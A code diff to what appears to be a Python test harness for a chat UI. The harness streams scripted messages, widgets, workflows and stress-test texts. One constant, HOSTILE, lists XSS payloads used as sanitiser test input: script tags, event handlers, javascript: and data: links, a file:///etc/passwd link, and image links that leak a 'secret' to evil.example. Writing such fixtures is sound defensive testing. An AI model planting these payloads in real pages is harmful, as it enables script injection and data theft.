@@ -1,6 +1,6 @@
 """The agent of the browser tests: the first word of a message names a scene, and the scene plays through the service.
 
-Texts come from a scripted model, word by word; everything else (widgets, workflows, questions, …) is streamed by a tool.
+Texts come from a scripted model, word by word; all else (widgets, workflows, questions, …) is streamed by a tool.
 """
 
 import asyncio
@@ -10,7 +10,7 @@ from collections.abc import AsyncIterator, Awaitable, Callable
 from datetime import UTC, datetime
 from typing import Any
 
-from agents import Agent, Model, ModelResponse, RunContextWrapper, StopAtTools, Usage, function_tool
+from agents import Agent, Model, RunContextWrapper, StopAtTools, function_tool
 from agents.tool import FunctionTool
 from chatkit.actions import Action
 from chatkit.agents import AgentContext, ClientToolCall
@@ -37,6 +37,7 @@ from chatkit.types import (
     StructuredInputFreeform,
     StructuredInputItem,
     StructuredInputMultipleChoice,
+    StructuredInputMultipleChoiceOption,
     SyncCustomActionResponse,
     TaskItem,
     ThoughtTask,
@@ -66,7 +67,9 @@ from openai.types.responses import (
 )
 
 Context = AgentContext[Any]
-PIXEL = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
+PIXEL = base64.b64decode(
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+)
 PICTURE = "data:image/png;base64," + base64.b64encode(PIXEL).decode()
 
 # --- texts ------------------------------------------------------------------------------------------------------------
@@ -102,9 +105,11 @@ The end. See [the note].
 HOSTILE = """\
 <script>window.hacked = 1</script> and <img src=x onerror="window.hacked = 2">
 
-<img src="https://evil.example/leak.png?secret"> <svg onload="window.hacked=3"><a xlink:href="javascript:window.hacked=4">x</a></svg>
+<img src="https://evil.example/leak.png?secret">
+<svg onload="window.hacked=3"><a xlink:href="javascript:window.hacked=4">x</a></svg>
 
-[click me](javascript:window.hacked=5) [and me](JaVaScRiPt:window.hacked=6) [data](data:text/html,<script>window.hacked=7</script>)
+[click me](javascript:window.hacked=5) [and me](JaVaScRiPt:window.hacked=6)
+[data](data:text/html,<script>window.hacked=7</script>)
 [vb](vbscript:msgbox) <javascript:window.hacked=8> [file](file:///etc/passwd) [rel](//evil.example/x)
 
 ![leak](https://evil.example/pixel.gif?q=secret) ![js](javascript:window.hacked=9) ![svg](data:text/html,hi)
@@ -164,7 +169,9 @@ class Script(Model):
             case "strange":
                 return [STRANGE], 0
             case "long":
-                return [chunk * 40 for chunk in split("Lorem **ipsum** dolor `sit` amet.\n\n" * 150)], 0
+                return ["Lorem **ipsum** dolor `sit` amet. " * 20 + "\n\n" for _ in range(300)], 0.002
+            case "deep":
+                return ["> " * 3000 + "deep " + "[" * 3000 + "*" * 3000 + "\n\n", "- " * 3000, "after"], 0.01
             case "slow":
                 return [f"word{number} " for number in range(int(rest or 100))], 0.1
             case "deltas":
@@ -367,6 +374,7 @@ LIST = {
     ],
 }
 
+CELL = {"type": "Table.Cell", "children": [{"type": "Text", "value": "In a cell"}]}
 GALLERY = {
     "type": "Card",
     "size": "lg",
@@ -397,7 +405,7 @@ GALLERY = {
             "xAxis": {"dataKey": "x", "labels": {"a": "Alpha"}},
             "showLegend": True,
         },
-        {"type": "Table", "children": [{"type": "Table.Row", "children": [{"type": "Table.Cell", "children": [{"type": "Text", "value": "In a cell"}]}]}]},
+        {"type": "Table", "children": [{"type": "Table.Row", "children": [CELL]}]},
     ],
 }  # fmt: skip
 
@@ -413,14 +421,23 @@ ODD = {
     ],
 }
 
-WIDGETS = {"card": CARD, "buttons": BUTTONS, "form": FORM, "as-form": AS_FORM, "list": LIST, "gallery": GALLERY, "odd": ODD}
+WIDGETS = {
+    "card": CARD,
+    "buttons": BUTTONS,
+    "form": FORM,
+    "as-form": AS_FORM,
+    "list": LIST,
+    "gallery": GALLERY,
+    "odd": ODD,
+}
 
 
 async def growing_widget() -> AsyncIterator[DynamicWidgetRoot]:
     words = "This text grows inside a widget."
-    for end in range(0, len(words) + 1, 4):
+    for end in range(0, len(words) + 4, 4):
         yield root({"type": "Card", "children": [{"type": "Text", "id": "t", "value": words[:end], "streaming": True}]})
-        await asyncio.sleep(0.02)
+        await asyncio.sleep(0.05)
+    await asyncio.sleep(0.7)
     yield root({"type": "Card", "children": [{"type": "Title", "value": "Finished"}]})
 
 
@@ -443,14 +460,18 @@ async def play_workflow(context: Context, words: str) -> None:
     await context.start_workflow(Workflow(type="custom", tasks=[]))
     await context.add_workflow_task(CustomTask(title="Reading the menu", status_indicator="loading", icon="book-open"))
     await asyncio.sleep(0.3)
-    await context.update_workflow_task(CustomTask(title="Read the menu", content="It has *tea*.", status_indicator="complete"), 0)
+    await context.update_workflow_task(
+        CustomTask(title="Read the menu", content="It has *tea*.", status_indicator="complete"), 0
+    )
     search = SearchTask(
         title_query="best tea",
         queries=["tea", "green tea"],
         sources=[URLSource(title="Tea site", url="https://tea.example/", attribution="tea.example")],
     )
     await context.add_workflow_task(search)
-    await context.add_workflow_task(FileTask(title="Looked into files", sources=[FileSource(title="Menu", filename="menu.pdf")]))
+    await context.add_workflow_task(
+        FileTask(title="Looked into files", sources=[FileSource(title="Menu", filename="menu.pdf")])
+    )
     await context.add_workflow_task(ImageTask(title="Drew a picture"))
     await asyncio.sleep(0.3)
     await context.end_workflow(CustomSummary(title="Looked at everything"))
@@ -483,7 +504,9 @@ async def play_image(context: Context, words: str) -> None:
     item = GeneratedImageItem(**item_base(context))
     await context.stream(ThreadItemAddedEvent(item=item))
     image = GeneratedImage(id="i", url=url)
-    await context.stream(ThreadItemUpdatedEvent(item_id=item.id, update=GeneratedImageUpdated(image=image, progress=0.5)))
+    await context.stream(
+        ThreadItemUpdatedEvent(item_id=item.id, update=GeneratedImageUpdated(image=image, progress=0.5))
+    )
     await asyncio.sleep(0.5)
     await context.stream(ThreadItemDoneEvent(item=item.model_copy(update={"image": image})))
 
@@ -495,7 +518,9 @@ async def play_progress(context: Context, words: str) -> None:
 
 
 async def play_task(context: Context, words: str) -> None:
-    await context.stream(ThreadItemDoneEvent(item=TaskItem(**item_base(context, "task"), task=CustomTask(title="Boiled water"))))
+    await context.stream(
+        ThreadItemDoneEvent(item=TaskItem(**item_base(context, "task"), task=CustomTask(title="Boiled water")))
+    )
 
 
 async def play_notice(context: Context, words: str) -> None:
@@ -510,11 +535,13 @@ async def play_effect(context: Context, words: str) -> None:
 
 
 async def play_questions(context: Context, words: str) -> None:
+    kinds = [StructuredInputMultipleChoiceOption(value=value) for value in ("green", "black")]
+    extras = [StructuredInputMultipleChoiceOption(value=value) for value in ("milk", "sugar")]
     inputs = [
-        StructuredInputMultipleChoice(id="kind", question="Which tea?", options=[{"value": "green"}, {"value": "black"}]),  # type: ignore[list-item]
-        StructuredInputMultipleChoice(id="with", question="With what?", multiple=True, options=[{"value": "milk"}, {"value": "sugar"}]),  # type: ignore[list-item]
+        StructuredInputMultipleChoice(id="kind", question="Which tea?", options=kinds),
+        StructuredInputMultipleChoice(id="with", question="With what?", options=extras, multiple=True),
         StructuredInputFreeform(id="why", question="Why?", description="In a few words"),
-    ]  # fmt: skip
+    ]
     await context.stream(ThreadItemDoneEvent(item=StructuredInputItem(**item_base(context), inputs=inputs)))
 
 
